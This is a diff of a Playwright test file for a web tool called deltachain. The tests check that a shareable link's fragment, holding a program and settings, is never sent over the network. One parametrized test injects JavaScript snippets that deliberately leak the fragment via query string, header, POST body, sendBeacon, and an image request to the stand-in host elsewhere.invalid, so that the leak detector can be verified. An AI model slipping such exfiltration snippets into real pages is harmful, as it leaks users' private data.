@@ -6,11 +6,13 @@ import json
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 
 import deltachain as dc
 from tests.browser.driver import CONTRAST, Seen, watched
+from tests.browser.recorder import Sent, recording
 from tests.browser.test_report import HIT, hostile
 
 pytest.importorskip("starlette")
@@ -48,7 +50,7 @@ def settled(page: Any) -> None:
 
 def written(page: Any) -> str:
     """What is in the editor."""
-    return "\n".join(page.locator("#text .cm-line").all_inner_texts()).replace("\u200b", "")
+    return "\n".join(line.strip("\n") for line in page.locator("#text .cm-line").all_text_contents())
 
 
 def write(page: Any, text: str) -> None:
@@ -174,25 +176,92 @@ def test_two_answers_stand_side_by_side(page: Any, server: Served) -> None:
     assert not page.locator("#kept").is_visible()
 
 
-def test_a_link_restores_model_and_question(page: Any, seen: Seen, server: Served) -> None:
-    page.goto(server.address)
-    page.locator("input[value=program]").check()
+MARK = "zq7531mark"
+MARKED = f"""from deltachain import announce, flip, program
+
+
+@program
+def respond(truth):
+    # {MARK}
+    announce("yes" if (truth == 1) == flip("2/3") else "no")
+"""
+
+
+def leaks(requests: list[Sent], fragment: str, port: int) -> list[str]:
+    """Requests that tell a link's fragment, or the model elsewhere than in the body of a question to the server."""
+    found = []
+    for sent in requests:
+        told = [text for text in (fragment, fragment[:64], MARK) if sent.outside_of_body(text)]
+        told += [text for text in (fragment, fragment[:64]) if text in sent.body]
+        question = sent.method == "POST" and sent.address.startswith(f"http://127.0.0.1:{port}/run?token=")
+        if told or (MARK in sent.body and not question):
+            found.append(f"{sent.method} {sent.address}")
+    return found
+
+
+def test_a_link_restores_model_and_question_and_is_never_sent(browser: Any, server: Served) -> None:
+    with recording() as recorder:
+        context = browser.new_context(proxy=recorder.proxy)
+        page = context.new_page()
+        page.goto(server.address)
+        page.locator("input[value=program]").check()
+        write(page, MARKED)
+        page.locator("#epsilon").fill("0.25")
+        settled(page)
+        page.locator("#link").click()
+        page.wait_for_function("() => location.hash.length > 100")
+        link = page.url
+        page.reload()  # a Referer, if there were one, would be of a page with a fragment
+        settled(page)
+        before = len(recorder.requests)
+        other = context.new_page()
+        other.goto(link)
+        settled(other)
+        assert other.locator("#epsilon").input_value() == "0.25"
+        assert written(other) == MARKED
+        context.close()
+        fragment = link.partition("#")[2]
+        assert 100 < len(fragment) <= 65536
+        # Chromium may ask its maker for something (CONNECT); what is said below is about that, too.
+        paths = {
+            urlsplit(sent.address).path.split("/", 2)[1] for sent in recorder.requests[before:] if "//" in sent.address
+        }
+        assert {"", "run", "events", "report"} <= paths, "what the link does is recorded"
+        asked = [sent for sent in recorder.requests if MARK in sent.body]
+        assert asked, "bodies are recorded"
+        assert leaks(recorder.requests, fragment, server.port) == []
+
+
+@pytest.mark.parametrize(
+    "leak",
+    [
+        "(text) => fetch(`/?${text}`)",
+        "(text) => fetch('/', { headers: { 'X-Link': text } })",
+        "(text) => fetch('/other', { method: 'POST', body: text })",
+        "(text) => { navigator.sendBeacon('/beacon', text); }",
+        "(text) => { new Image().src = `http://elsewhere.invalid/${text}`; }",
+    ],
+    ids=["query", "header", "body", "beacon", "elsewhere"],
+)
+def test_a_link_that_was_sent_would_be_noticed(browser: Any, server: Served, leak: str) -> None:
+    fragment = "eyJhY3Rpb24iOiJyZXBvcnQi" * 10
+    with recording() as recorder:
+        context = browser.new_context(proxy=recorder.proxy, bypass_csp=True)
+        page = context.new_page()
+        page.goto(server.address)
+        settled(page)
+        assert leaks(recorder.requests, fragment, server.port) == []
+        page.evaluate(leak, fragment)
+        page.wait_for_timeout(500)
+        context.close()
+        assert len(leaks(recorder.requests, fragment, server.port)) == 1
+
+
+def test_a_link_that_cannot_be_read_is_said_to_be_so(page: Any, server: Served) -> None:
+    page.goto(f"{server.address}#not-a-link")
     settled(page)
-    page.locator("#epsilon").fill("0.25")
-    page.locator("#link").click()
-    page.wait_for_function("() => location.hash.length > 100")
-    link = page.url
-    assert len(link.partition("#")[2]) <= 65536
-    other = page.context.new_page()
-    other.goto(link)
-    settled(other)
-    assert other.locator("#epsilon").input_value() == "0.25"
-    assert "@program" in written(other)
-    assert not [url for url in seen.requests if "#" in url.partition("?")[2].partition("token")[2] and "/run" in url]
-    other.goto(f"{server.address}#not-a-link")
-    other.reload()
-    settled(other)
-    assert "could not be read" in other.locator("#link-note").inner_text()
+    assert "could not be read" in page.locator("#link-note").inner_text()
+    assert page.locator("#answers").inner_text().startswith("survey,"), "the page works as without it"
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
